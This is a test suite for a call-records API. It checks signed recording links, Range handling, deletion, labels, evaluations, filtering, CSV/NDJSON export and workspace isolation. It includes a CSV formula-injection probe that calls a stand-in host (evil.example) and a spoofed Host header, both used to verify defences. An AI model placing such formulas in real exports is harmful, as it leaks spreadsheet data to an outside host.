// The call-records API on stored calls: export, signed recording links, delete, labels,
// evaluations, analysis, listing filters, bulk export, and the tenant boundary on each route.
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { existsSync, readFileSync } from 'node:fs'
import { apiClient, memberKey, startTestAppliance, type Api, type TestAppliance } from '../../helpers/appliance.ts'
import { seedCall } from '../../helpers/call-records.ts'

let t: TestAppliance
let other: Api
let db: TestAppliance['appliance']['database']['db']

beforeAll(async () => {
  t = await startTestAppliance({ BACKGROUND_POLL_MS: 50 })
  db = t.appliance.database.db
  const ws = await t.api('POST', '/api/workspaces', { body: { name: 'Other' } })
  other = apiClient(t.url, ws.body.apiKey.key)
})
afterAll(() => t?.stop())

const until = async <T>(f: () => Promise<T | undefined>, what: string, ms = 5000): Promise<T> => {
  const end = Date.now() + ms
  for (;;) {
    const v = await f()
    if (v !== undefined) return v
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`)
    await Bun.sleep(20)
  }
}

describe('export and the signed recording link', () => {
  test('the export document holds the call, its analysis (offline, in the background) and a recording link that works without a key', async () => {
    const id = await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })
    await t.api('POST', `/api/calls/${id}/analysis`)
    const doc = await until(async () => {
      const r = await t.api('GET', `/api/calls/${id}/export`)
      return r.body.analysis.status === 'completed' ? r.body : undefined
    }, 'analysis')
    expect(doc.call).toMatchObject({ id, agentName: 'Seed agent', type: 'inbound', outcome: 'completed', duration: 60 })
    expect(doc.analysis).toMatchObject({ status: 'completed', sentiment: 'positive', isVoicemail: false, model: '' })
    expect(doc.analysis.summary).toContain('I love your service')
    expect(doc.cost).toMatchObject({ analysis: 0, total: 0.0013 })

    const wav = readFileSync(`${t.dataDir}/recordings/${id}.wav`)
    const full = await fetch(doc.recordingUrl)
    expect(full.status).toBe(200)
    expect(full.headers.get('content-type')).toBe('audio/wav')
    expect(Buffer.from(await full.arrayBuffer()).equals(wav)).toBe(true)
    const part = await fetch(doc.recordingUrl, { headers: { range: 'bytes=0-43' } })
    expect(part.status).toBe(206)
    expect(part.headers.get('content-range')).toBe(`bytes 0-43/${wav.length}`)
    expect(Buffer.from(await part.arrayBuffer()).equals(wav.subarray(0, 44))).toBe(true)
    expect((await fetch(doc.recordingUrl, { headers: { range: `bytes=${wav.length}-` } })).status).toBe(416)

    const u = new URL(doc.recordingUrl)
    const tampered = new URL(u)
    tampered.searchParams.set('expires', String(Number(u.searchParams.get('expires')) + 1))
    const forged = await fetch(tampered)
    expect(forged.status).toBe(403)
    expect(((await forged.json()) as any).error.code).toBe('forbidden')
    const otherCall = new URL(u)
    otherCall.pathname = `/recordings/${await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })}`
    expect((await fetch(otherCall)).status).toBe(403)
  })

  test('a Range of several ranges, another unit or spaces is ignored (200, whole file); one range still 206, past the end still 416', async () => {
    const id = await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })
    const wav = readFileSync(`${t.dataDir}/recordings/${id}.wav`)
    const link = (await t.api('GET', `/api/calls/${id}/export`)).body.recordingUrl as string
    const viaKey = (range: string) => fetch(`${t.url}/api/calls/${id}/recording`, { headers: { authorization: `Bearer ${t.adminKey}`, range } })
    for (const get of [(range: string) => fetch(link, { headers: { range } }), viaKey]) {
      for (const range of ['bytes=0-1,5-6', 'items=0-1', 'bytes = 0-10', 'bytes=0 - 10']) {
        const r = await get(range)
        expect({ range, status: r.status }).toEqual({ range, status: 200 })
        expect(Buffer.from(await r.arrayBuffer()).equals(wav)).toBe(true)
      }
      const one = await get('bytes=0-43')
      expect(one.status).toBe(206)
      expect(Buffer.from(await one.arrayBuffer()).equals(wav.subarray(0, 44))).toBe(true)
      const beyond = await get(`bytes=${wav.length}-`)
      expect(beyond.status).toBe(416)
      expect(beyond.headers.get('content-range')).toBe(`bytes */${wav.length}`)
    }
  })

  test('an expired recording link is refused with 403', async () => {
    const ttl = await startTestAppliance({ RECORDING_URL_TTL_SEC: 1 })
    try {
      const id = await seedCall(ttl.appliance.database.db, { workspaceId: ttl.workspaceId, recordingIn: ttl.dataDir })
      const doc = (await ttl.api('GET', `/api/calls/${id}/export`)).body
      const expires = Number(new URL(doc.recordingUrl).searchParams.get('expires'))
      await until(async () => (Date.now() >= expires * 1000 ? true : undefined), 'the link to expire', 3000)
      const r = await fetch(doc.recordingUrl)
      expect(r.status).toBe(403)
      expect(((await r.json()) as any).error.message).toContain('expired')
    } finally {
      await ttl.stop()
    }
  })

  test('links are built from the configuration: a Host header of evil.example does not reach recordingUrl', async () => {
    const id = await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })
    const headers = { authorization: `Bearer ${t.adminKey}`, host: 'evil.example' }
    const call = (await (await fetch(`${t.url}/api/calls/${id}`, { headers })).json()) as any
    const doc = (await (await fetch(`${t.url}/api/calls/${id}/export`, { headers })).json()) as any
    const csv = await (await fetch(`${t.url}/api/calls/export?format=csv`, { headers })).text()
    const ndjson = await (await fetch(`${t.url}/api/calls/export`, { headers })).text()
    const base = t.url // http://PUBLIC_HOST:<the port HTTP listens on>
    expect(call.call.recordingUrl).toBe(`${base}/api/calls/${id}/recording`)
    expect(doc.recordingUrl).toStartWith(`${base}/recordings/${id}?`)
    for (const text of [csv, ndjson, JSON.stringify(call), JSON.stringify(doc)]) expect(text).not.toContain('evil.example')
    expect((await fetch(doc.recordingUrl)).status).toBe(200)
  })

  test('a live call cannot be exported or deleted (409)', async () => {
    const id = await seedCall(db, { workspaceId: t.workspaceId, status: 'in_progress' })
    expect((await t.api('GET', `/api/calls/${id}/export`)).status).toBe(409)
    const del = await t.api('DELETE', `/api/calls/${id}`)
    expect(del.status).toBe(409)
    expect(del.body.error.code).toBe('conflict')
    expect(await db.selectFrom('calls').select('id').where('id', '=', id).executeTakeFirst()).toBeDefined()
  })
})

describe('delete', () => {
  test('deleting a call removes every row of it, keeps the recording file, and 404s afterwards', async () => {
    const id = await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })
    await t.api('PUT', `/api/calls/${id}/labels`, { body: { labels: ['vip', 'callback'] } })
    await t.api('POST', `/api/calls/${id}/evaluations`, { body: { score: 80 } })
    await t.api('POST', `/api/calls/${id}/analysis`)
    const { enqueueWebhookEvent } = await import('../../../src/features/webhooks/index.ts')
    await enqueueWebhookEvent(db, { workspaceId: t.workspaceId, url: 'https://hooks.example.com/x', type: 'call.completed', callId: id, holdUntil: new Date(Date.now() + 3_600_000) })
    const count = async () => {
      const n = async (table: 'calls' | 'call_labels' | 'call_evaluations' | 'call_analyses' | 'webhook_deliveries', col: 'id' | 'call_id') =>
        (await db.selectFrom(table).select(col as never).where(col as never, '=', id as never).execute()).length
      return [await n('calls', 'id'), await n('call_labels', 'call_id'), await n('call_evaluations', 'call_id'), await n('call_analyses', 'call_id'), await n('webhook_deliveries', 'call_id')]
    }
    expect(await count()).toEqual([1, 2, 1, 1, 1])
    const res = await t.api('DELETE', `/api/calls/${id}`)
    expect(res.status).toBe(200)
    expect(res.body).toEqual({ ok: true })
    expect(await count()).toEqual([0, 0, 0, 0, 0])
    expect(existsSync(`${t.dataDir}/recordings/${id}.wav`)).toBe(true)
    expect((await t.api('GET', `/api/calls/${id}`)).status).toBe(404)
    expect((await t.api('GET', `/api/calls/${id}/export`)).status).toBe(404)
    expect((await t.api('DELETE', `/api/calls/${id}`)).status).toBe(404)
  })

  test('DELETE /api/calls/{id}?deleteRecording=true removes the recording file and the record; a bad value is refused and deletes nothing', async () => {
    const id = await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })
    const file = `${t.dataDir}/recordings/${id}.wav`
    const bad = await t.api('DELETE', `/api/calls/${id}?deleteRecording=yes`)
    expect(bad.status).toBe(400)
    expect(bad.body.error.code).toBe('validation_failed')
    expect(existsSync(file)).toBe(true)
    const res = await t.api('DELETE', `/api/calls/${id}?deleteRecording=true`)
    expect(res.status).toBe(200)
    expect(res.body).toEqual({ ok: true })
    expect(existsSync(file)).toBe(false)
    expect((await t.api('GET', `/api/calls/${id}`)).status).toBe(404)
    // false is the default: the file stays
    const kept = await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })
    expect((await t.api('DELETE', `/api/calls/${kept}?deleteRecording=false`)).status).toBe(200)
    expect(existsSync(`${t.dataDir}/recordings/${kept}.wav`)).toBe(true)
  })

  test('deleting the recording removes the file and the link; the record stays', async () => {
    const id = await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })
    const link = (await t.api('GET', `/api/calls/${id}/export`)).body.recordingUrl
    expect((await t.api('DELETE', `/api/calls/${id}/recording`)).body).toEqual({ ok: true })
    expect(existsSync(`${t.dataDir}/recordings/${id}.wav`)).toBe(false)
    expect((await t.api('GET', `/api/calls/${id}/export`)).body.recordingUrl).toBeNull()
    expect((await fetch(link)).status).toBe(404)
    expect((await t.api('DELETE', `/api/calls/${id}/recording`)).status).toBe(404)
  })
})

describe('labels and evaluations', () => {
  test('labels are replaced, added and removed; bad labels are refused and change nothing', async () => {
    const id = await seedCall(db, { workspaceId: t.workspaceId })
    expect((await t.api('PUT', `/api/calls/${id}/labels`, { body: { labels: ['b', 'a', 'b'] } })).body).toEqual({ labels: ['a', 'b'] })
    expect((await t.api('POST', `/api/calls/${id}/labels`, { body: { label: 'needs follow-up' } })).body.labels).toEqual(['a', 'b', 'needs follow-up'])
    expect((await t.api('DELETE', `/api/calls/${id}/labels/${encodeURIComponent('needs follow-up')}`)).body.labels).toEqual(['a', 'b'])
    expect((await t.api('DELETE', `/api/calls/${id}/labels/zzz`)).status).toBe(404)
    for (const bad of [[''], ['x'.repeat(65)], ['tab\there'], Array.from({ length: 51 }, (_, i) => `l${i}`)]) {
      const r = await t.api('PUT', `/api/calls/${id}/labels`, { body: { labels: bad } })
      expect(r.status).toBe(422)
      expect(r.body.error.code).toBe('validation_failed')
    }
    expect((await t.api('POST', `/api/calls/${id}/labels`, { body: { label: 'bell\u0007' } })).status).toBe(422)
    await t.api('PUT', `/api/calls/${id}/labels`, { body: { labels: Array.from({ length: 50 }, (_, i) => `l${i}`) } })
    expect((await t.api('POST', `/api/calls/${id}/labels`, { body: { label: 'one more' } })).status).toBe(422)
    expect((await t.api('GET', `/api/calls/${id}/export`)).body.labels.length).toBe(50)
  })

  test("a manual evaluation is scored 0-100, named after the key's user by default, listed and deleted", async () => {
    const id = await seedCall(db, { workspaceId: t.workspaceId })
    const member = await memberKey(t, 'reviewer@example.com')
    const asMember = apiClient(t.url, member.key)
    const e = await asMember('POST', `/api/calls/${id}/evaluations`, { body: { score: 72.5, comment: 'polite', criteria: [{ name: 'greeting', score: 90 }] } })
    expect(e.status).toBe(200)
    expect(e.body.evaluation).toMatchObject({ type: 'manual', score: 72.5, evaluatorName: 'reviewer@example.com', comment: 'polite', criteria: [{ name: 'greeting', score: 90 }] })
    const named = await t.api('POST', `/api/calls/${id}/evaluations`, { body: { score: 10, evaluatorName: 'QA team' } })
    expect(named.body.evaluation.evaluatorName).toBe('QA team')
    for (const score of [-1, 101, '50']) expect((await t.api('POST', `/api/calls/${id}/evaluations`, { body: { score } })).status).toBe(422)
    const list = await t.api('GET', `/api/calls/${id}/evaluations`)
    expect(list.body.evaluations.map((x: any) => x.score)).toEqual([72.5, 10])
    expect((await t.api('DELETE', `/api/calls/${id}/evaluations/${e.body.evaluation.id}`)).body).toEqual({ ok: true })
    expect((await t.api('DELETE', `/api/calls/${id}/evaluations/${e.body.evaluation.id}`)).status).toBe(404)
    expect((await t.api('GET', `/api/calls/${id}/export`)).body.evaluations.map((x: any) => x.evaluatorName)).toEqual(['QA team'])
  })
})

describe('listing and bulk export', () => {
  test('filters combine: agent, number, direction, outcome, label, sentiment, campaign and time range', async () => {
    const ws = (await t.api('POST', '/api/workspaces', { body: { name: 'Filters' } })).body
    const api = apiClient(t.url, ws.apiKey.key)
    const w = ws.workspace.id
    const base = Date.parse('2026-01-01T00:00:00Z')
    const at = (h: number) => new Date(base + h * 3_600_000).toISOString()
    const a = await seedCall(db, { workspaceId: w, agentId: 'agent_a', type: 'inbound', createdAt: at(1), phoneNumberId: 'num_1' })
    const b = await seedCall(db, { workspaceId: w, agentId: 'agent_a', type: 'outbound', createdAt: at(2), outboundJobId: 'job_1', outcome: 'no_answer' })
    const c = await seedCall(db, { workspaceId: w, agentId: 'agent_b', type: 'inbound', createdAt: at(3), transcript: [{ role: 'user', text: 'this is awful and terrible', timestamp: 1 }] })
    await api('PUT', `/api/calls/${a}/labels`, { body: { labels: ['vip'] } })
    for (const id of [a, b, c]) await api('POST', `/api/calls/${id}/analysis`)
    await until(async () => ((await db.selectFrom('call_analyses').select('call_id').where('workspace_id', '=', w).where('status', '=', 'completed').execute()).length === 3 ? true : undefined), 'analyses')
    const ids = async (q: string) => (await api('GET', `/api/calls?${q}`)).body.calls.map((x: any) => x.id)
    expect(await ids('')).toEqual([c, b, a])
    expect(await ids('agentId=agent_a')).toEqual([b, a])
    expect(await ids('agentId=agent_a&direction=inbound')).toEqual([a])
    expect(await ids('phoneNumberId=num_1')).toEqual([a])
    expect(await ids('outcome=no_answer')).toEqual([b])
    expect(await ids('campaignId=job_1')).toEqual([b])
    expect(await ids('label=vip')).toEqual([a])
    expect(await ids('sentiment=negative')).toEqual([c])
    expect(await ids(`createdAfter=${at(2)}&createdBefore=${at(3)}`)).toEqual([b])
    expect(await ids('agentId=agent_a&type=inbound&label=vip')).toEqual([a])
    expect((await api('GET', '/api/calls?sentiment=happy')).status).toBe(400)
    expect((await api('GET', '/api/calls?createdAfter=yesterday')).status).toBe(400)

    const ndjson = await fetch(`${t.url}/api/calls/export?format=ndjson&agentId=agent_a`, { headers: { authorization: `Bearer ${ws.apiKey.key}` } })
    expect(ndjson.headers.get('content-type')).toBe('application/x-ndjson')
    const docs = (await ndjson.text()).trim().split('\n').map((l) => JSON.parse(l))
    expect(docs.map((d) => d.call.id)).toEqual([b, a])
    expect(docs[1].labels).toEqual(['vip'])
    const csv = await (await fetch(`${t.url}/api/calls/export?format=csv`, { headers: { authorization: `Bearer ${ws.apiKey.key}` } })).text()
    const lines = csv.trim().split('\r\n')
    expect(lines[0]!.startsWith('"id","agentId","agentName","type","from","to","outcome"')).toBe(true)
    expect(lines.length).toBe(4)
    expect(lines[1]!.startsWith(`"${c}","agent_b",`)).toBe(true)
  })

  test("the CSV export neutralises a member's formula label and a formula agent name, so no spreadsheet runs them", async () => {
    const ws = (await t.api('POST', '/api/workspaces', { body: { name: 'Formulas' } })).body
    const admin = apiClient(t.url, ws.apiKey.key)
    const agent = (await admin('POST', '/api/agents', { body: { name: '@SUM(1+1)' } })).body.agent
    const id = await seedCall(db, { workspaceId: ws.workspace.id, agentId: agent.id, agentName: agent.name })
    const inv = await admin('POST', `/api/workspaces/${ws.workspace.id}/members`, { body: { email: 'labeller@example.com' } })
    const key = (await admin('POST', `/api/workspaces/${ws.workspace.id}/api-keys`, { body: { name: 'member', userId: inv.body.member.userId } })).body.apiKey.key
    const probe = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    expect((await apiClient(t.url, key)('POST', `/api/calls/${id}/labels`, { body: { label: probe } })).status).toBe(200)
    const csv = await (await fetch(`${t.url}/api/calls/export?format=csv`, { headers: { authorization: `Bearer ${key}` } })).text()
    const row = csv.split('\r\n')[1]!
    expect(row).toContain(`,"'@SUM(1+1)",`)
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`)
    // no cell of the row starts a formula: each begins with a quote, a digit or nothing
    const cells = row.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!.map((c) => c.replace(/,$/, ''))
    for (const cell of cells) expect(/^"?[=+\-@\t\r]/.test(cell) && !/^-?\d/.test(cell)).toBe(false)
  })

  test('bulk export walks every call across many batches exactly once', async () => {
    const ws = (await t.api('POST', '/api/workspaces', { body: { name: 'Bulk' } })).body
    const want = new Set<string>()
    for (let i = 0; i < 450; i++) want.add(await seedCall(db, { workspaceId: ws.workspace.id, createdAt: new Date(Date.UTC(2026, 0, 1, 0, 0, i % 7)).toISOString() }))
    const text = await (await fetch(`${t.url}/api/calls/export`, { headers: { authorization: `Bearer ${ws.apiKey.key}` } })).text()
    const got = text.trim().split('\n').map((l) => JSON.parse(l).call.id)
    expect(got.length).toBe(450)
    expect(new Set(got)).toEqual(want)
  })
})

describe('tenant boundary', () => {
  test('another workspace cannot export, delete, label, evaluate, analyse or see deliveries of a call', async () => {
    const id = await seedCall(db, { workspaceId: t.workspaceId, recordingIn: t.dataDir })
    const agentId = (await t.api('POST', '/api/agents', { body: { name: 'Private' } })).body.agent.id
    const { enqueueWebhookEvent } = await import('../../../src/features/webhooks/index.ts')
    const deliveryId = await enqueueWebhookEvent(db, { workspaceId: t.workspaceId, url: 'https://hooks.example.com/x', type: 'call.completed', callId: id, holdUntil: new Date(Date.now() + 3_600_000) })
    const e = (await t.api('POST', `/api/calls/${id}/evaluations`, { body: { score: 50 } })).body.evaluation
    await t.api('PUT', `/api/calls/${id}/labels`, { body: { labels: ['mine'] } })
    const attempts: [string, string, unknown?][] = [
      ['GET', `/api/calls/${id}/export`],
      ['DELETE', `/api/calls/${id}`],
      ['DELETE', `/api/calls/${id}/recording`],
      ['POST', `/api/calls/${id}/analysis`],
      ['GET', `/api/calls/${id}/evaluations`],
      ['POST', `/api/calls/${id}/evaluations`, { score: 1 }],
      ['DELETE', `/api/calls/${id}/evaluations/${e.id}`],
      ['PUT', `/api/calls/${id}/labels`, { labels: ['theirs'] }],
      ['POST', `/api/calls/${id}/labels`, { label: 'theirs' }],
      ['DELETE', `/api/calls/${id}/labels/mine`],
      ['GET', `/api/workspaces/${t.workspaceId}/webhook-secret`],
      ['POST', `/api/workspaces/${t.workspaceId}/webhook-secret`],
      ['GET', `/api/agents/${agentId}/analysis-settings`],
      ['PUT', `/api/agents/${agentId}/analysis-settings`, { model: '', prompt: 'steal', evaluationCriteria: [] }],
      ['POST', `/api/webhook-deliveries/${deliveryId}/retry`],
    ]
    for (const [method, path, body] of attempts) {
      const r = await other(method, path, { body })
      expect({ method, path, status: r.status }).toEqual({ method, path, status: 404 })
    }
    expect((await other('GET', '/api/calls?label=mine')).body.calls).toEqual([])
    expect((await other('GET', `/api/webhook-deliveries?callId=${id}`)).body.deliveries).toEqual([])
    const mine = await t.api('GET', `/api/calls/${id}/export`)
    expect(mine.body.labels).toEqual(['mine'])
    expect(mine.body.evaluations.length).toBe(1)
    expect((await t.api('GET', `/api/agents/${agentId}/analysis-settings`)).body.analysisSettings.prompt).toBe('')
    expect((await t.api('GET', `/api/webhook-deliveries?callId=${id}`)).body.deliveries[0]).toMatchObject({ id: deliveryId, attemptCount: 0, status: 'pending' })
    expect(existsSync(`${t.dataDir}/recordings/${id}.wav`)).toBe(true)
  })
})
